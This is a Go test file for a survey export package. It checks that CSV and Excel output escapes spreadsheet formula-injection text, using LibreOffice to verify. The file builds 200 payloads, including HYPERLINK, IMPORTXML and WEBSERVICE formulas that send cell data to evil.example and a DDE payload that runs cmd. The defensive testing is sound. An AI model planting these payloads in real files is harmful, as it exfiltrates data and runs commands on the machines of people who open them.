package export_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"testing"
	"time"

	"tidemark/internal/readers"
	"tidemark/survey/export"
	"tidemark/survey/export/dataset"
	"tidemark/survey/export/excel"
)

// formulaPayloads are texts that a spreadsheet could run, in the forms in which they are
// known to get past filters: signs, spaces, controls, full-width signs, quotes.
func formulaPayloads() []string {
	begin := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t=", "\r=", "\n=", "\u00a0=", "'=", "\"=", "=+", "--", "==", "=-", "@="}
	body := []string{
		`1+1`, `SUM(A1:A9)`, `HYPERLINK("http://evil.example/?"&A1,"x")`, `cmd|' /C calc'!A0`, `IMPORTXML("http://evil.example","//a")`,
		`WEBSERVICE("http://evil.example/"&A1)`, `DDE("soffice","x","y")`, `"a"&"b"`, `INDIRECT("A1")`, `1;2`,
	}
	var all []string
	for _, b := range begin {
		for _, f := range body {
			all = append(all, b+f)
		}
	}
	return all
}

// TestNoHostileTextIsAFormula gives 200 payloads to LibreOffice through every kind of file
// that a spreadsheet opens. The same texts as they are show that it would run them.
func TestNoHostileTextIsAFormula(t *testing.T) {
	t.Parallel()
	payloads := formulaPayloads()
	if len(payloads) != 200 {
		t.Fatalf("%d payloads", len(payloads))
	}
	dir := t.TempDir()
	write := func(name string, content []byte) string {
		t.Helper()
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, content, 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	var ours, raw, book bytes.Buffer
	plain := csv.NewWriter(&raw)
	table := dataset.Table{
		Name: "hostile", Label: "=1+1", MadeAt: time.Unix(1, 0), Program: "=1+1", Notes: payloads[:20], Rows: len(payloads),
		Variables: []dataset.Variable{{Name: "answer", Label: "=1+1", Kind: dataset.Text, Measure: dataset.Nominal, Width: 200}},
	}
	w, err := excel.New(&book, table)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range payloads {
		ours.Write(export.AppendText(nil, p))
		ours.WriteString(",1\n")
		if err := plain.Write([]string{p, "1"}); err != nil {
			t.Fatal(err)
		}
		if err := w.Row([]dataset.Cell{dataset.Words(p)}); err != nil {
			t.Fatal(err)
		}
	}
	plain.Flush()
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	csvPath, xlsxPath, rawPath := write("ours.csv", ours.Bytes()), write("book.xlsx", book.Bytes()), write("raw.csv", raw.Bytes())
	found := readers.Formulas(t, csvPath, xlsxPath, rawPath)
	for _, path := range []string{csvPath, xlsxPath} {
		if c := found[path]; c.Formulas != 0 || c.Filled < len(payloads) {
			t.Errorf("%s: %+v, want no formulas in at least %d cells", filepath.Base(path), c, len(payloads))
		}
	}
	if found[rawPath].Formulas == 0 {
		t.Error("LibreOffice takes nothing for a formula, so that this shows nothing")
	}
	t.Logf("%d texts: %+v as they are, %+v as CSV, %+v as a workbook", len(payloads), found[rawPath], found[csvPath], found[xlsxPath])
}
